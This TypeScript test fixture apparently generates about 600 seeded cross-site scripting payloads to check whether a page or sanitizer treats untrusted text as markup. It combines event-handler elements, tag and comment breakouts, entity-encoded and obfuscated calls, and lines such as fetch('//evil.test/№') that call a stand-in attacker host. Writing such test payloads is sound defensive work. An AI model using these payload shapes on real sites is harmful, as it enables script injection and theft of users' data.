/**
 * Texts that run a script, ask a foreign host or change the page if a page ever takes them for more than text. All of them call
 * `owned(n)`, open a dialog or ask evil.test, so that one watcher finds every one. Made by rule and seed: the same seed, the same list.
 */
import { ATTRIBUTE_BREAKOUTS, CARRIERS, SHAPES, URLS } from "#tests/faults/attacks/script-shapes.ts";
import { seededRandom } from "#tests/faults/tools/sizes.ts";

const PAYLOADS = 600;

/** `$` stands for the call, `№` for the payload's number, `\0` and its kin for themselves. */
const CALLS = [
  "owned(№)",
  "owned`№`",
  "top.owned(№)",
  "window['ow'+'ned'](№)",
  "\\u006fwned(№)",
  "[№].map(owned)",
  "setTimeout('owned(№)')",
  "(0,eval)('owned(№)')",
  "onerror=owned;throw №",
  "import('data:text/javascript,owned(№)')",
  "alert(№)",
  "confirm`№`",
  "fetch('//evil.test/№')",
  "new Image().src='//evil.test/№'",
  "location='//evil.test/№'",
];

/** Inside an attribute a browser reads these as the same call. */
const ENTITIES = ["&#111;wned(№)", "&#x6f;wned&lpar;№&rpar;", "&#111wned(№)", "owned&DiacriticalGrave;№&grave;"];

const ELEMENTS = [
  "img src=x onerror",
  "img src=/icon.svg onload",
  "svg onload",
  "body onload",
  "body onpageshow",
  "video src=x onerror",
  "audio src=x onerror",
  "video onloadstart autoplay><source src=x onerror",
  "details open ontoggle",
  "input autofocus onfocus",
  "textarea autofocus onfocus",
  "select autofocus onfocus",
  "button autofocus onfocus",
  "a href=# id=x tabindex=1 onfocus",
  "p contenteditable autofocus onfocus",
  "iframe src=about:blank onload",
  "iframe srcdoc=x onload",
  "object data=x onerror",
  "embed src=/icon.svg onload",
  "style onload",
  "link rel=stylesheet href=/x.css onerror",
  "script src=/x.js onerror",
  "marquee onstart",
  "x style=animation:spin onanimationstart",
  "input type=image src=x onerror",
  "picture><source srcset=x><img src=x onerror",
  "svg><animate attributeName=x dur=1s onbegin",
  "svg><image href=x onerror",
  "math><mtext><img src=x onerror",
  "table background=x><tr><td><img src=x onerror",
];

/** What may have to be ended first, wherever the text has landed. */
const BREAKOUTS = [
  "",
  '">',
  "'>",
  "`>",
  "--> ",
  "--!>",
  "]]>",
  "?>",
  "*/",
  "</title>",
  "</textarea>",
  "</script>",
  "</style>",
  "</noscript>",
  "</template>",
  "</select>",
  "</iframe>",
  "</svg>",
  "</math>",
  "</a></p></div></main>",
  '"}]}</script>',
];

const QUOTES = [
  (call: string) => `=${call.replace(/ /g, "/**/")}`,
  (call: string) => `="${call.replaceAll('"', "&quot;")}"`,
  (call: string) => `='${call.replaceAll("'", "&#39;")}'`,
  (call: string) => `\t=\n"${call.replaceAll('"', "&quot;")}"\r`,
];

/** The handler stands at the end of an element: `img src=x onerror` → `<img src=x onerror=…>`, its blanks in some other way. */
function element(kind: string, call: string, turn: number): string {
  const blank = [" ", "\t", "\n", "/", "\f", "\r"][turn % 6]!;
  const name = turn % 3 === 1 ? kind.replace(/^\w+/, (tag) => tag.toUpperCase()) : kind;
  return `<${name.replaceAll(" ", blank)}${QUOTES[turn % QUOTES.length]!(call)}${turn % 2 === 0 ? ">" : "//"}`;
}

const fill = (template: string, call: string, number: number): string =>
  template.replaceAll("¤", () => call).replaceAll("№", String(number));

/** About 600: every shape and address once by itself, and the products of the lists, chosen by the seed, up to the number. */
export function makePayloads(seed: number): string[] {
  const random = seededRandom(seed);
  const pick = <Value>(list: readonly Value[]): Value => list[Math.floor(random() * list.length)]!;
  const templates = [
    ...SHAPES,
    ...ATTRIBUTE_BREAKOUTS,
    ...URLS,
    // Every carrier with an address of its own, every element behind a breakout of its own.
    ...CARRIERS.map((carrier, index) => carrier.replace("@", () => URLS[index % URLS.length]!)),
    ...ELEMENTS.map(
      (kind, index) => BREAKOUTS[index % BREAKOUTS.length]! + element(kind, CALLS[index % CALLS.length]!, index),
    ),
  ];
  const made = new Set(templates.map((template, index) => fill(template, CALLS[index % CALLS.length]!, index)));
  while (made.size < PAYLOADS) {
    const number = made.size;
    const call = pick(random() < 0.3 ? ENTITIES : CALLS);
    const inner =
      random() < 0.4
        ? pick(CARRIERS).replace("@", () => pick(URLS))
        : element(pick(ELEMENTS), call, Math.floor(random() * 12));
    made.add(fill(pick(BREAKOUTS) + inner, call, number));
  }
  return [...made];
}

/** Those that are an address as a whole. */
export const makeAddresses = (): string[] =>
  URLS.map((template, index) => fill(template, CALLS[index % CALLS.length]!, index));
